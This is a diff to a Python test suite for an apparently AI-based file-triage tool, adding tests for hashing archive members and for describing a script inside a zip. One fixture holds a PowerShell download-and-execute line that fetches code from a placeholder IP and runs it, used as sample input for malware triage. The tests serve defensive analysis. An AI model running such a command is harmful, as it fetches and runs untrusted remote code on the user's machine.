@@ -3,6 +3,7 @@
 from __future__ import annotations
 
 import gzip
+import hashlib
 import io
 import struct
 import subprocess
@@ -245,7 +246,7 @@ def test_it_is_not_planned_for_other_questions(asks: str) -> None:
 async def test_a_part_that_the_user_names_is_taken_apart(ask: Ask) -> None:
     document = (corpus("oletools") / "tests/test-data/msodde/dde-test.docx").read_bytes()
     turn = await ask("Triage invoice.docx in mail.zip", {"mail.zip": zipped(("a/invoice.docx", document))})
-    assert turn.tools == ["file_triage"]
+    assert turn.tools == ["file_triage", "extract_iocs"]
     assert turn.answer.startswith("`mail.zip › invoice.docx` is a Word document")
     assert "DDEAUTO" in turn.answer
 
@@ -254,3 +255,28 @@ def test_of_very_many_members_all_are_counted_and_some_are_shown() -> None:
     result = listed(zipped(*((f"d/{n}.txt", b"1") for n in range(1_700))))
     assert (result["total"], result["types"], len(result["members"])) == (1_700, {"file": 1_700}, 1_500)
     assert "**1,700 members** (1,700 files)" in TOOL.answer(result, Wish())
+
+
+@pytest.mark.anyio
+@pytest.mark.parametrize(
+    "asks",
+    [
+        "sha256 of x.exe in mail.zip",
+        "Hash x.exe inside mail.zip",
+        "sha256 of x.exe in the zip",
+        "SHA-256 of deep/x.exe?",
+    ],
+)
+async def test_the_hash_of_a_part_is_that_of_the_part(ask: Ask, asks: str) -> None:
+    content = b"a program, not really"
+    turn = await ask(asks, {"mail.zip": zipped(("in.zip", zipped(("deep/x.exe", content))), ("a.txt", b"1"))})
+    assert turn.tools == ["hash_file"]
+    assert hashlib.sha256(content).hexdigest() in turn.answer
+
+
+@pytest.mark.anyio
+async def test_what_a_part_does_is_told_of_the_part(ask: Ask) -> None:
+    script = b"iex (New-Object Net.WebClient).DownloadString('http://203.0.113.9/a')\n"
+    turn = await ask("Unzip it and tell me what run.ps1 does", {"mail.zip": zipped(("deep/run.ps1", script))})
+    assert "file_triage" in turn.tools
+    assert "text is run as code" in turn.answer
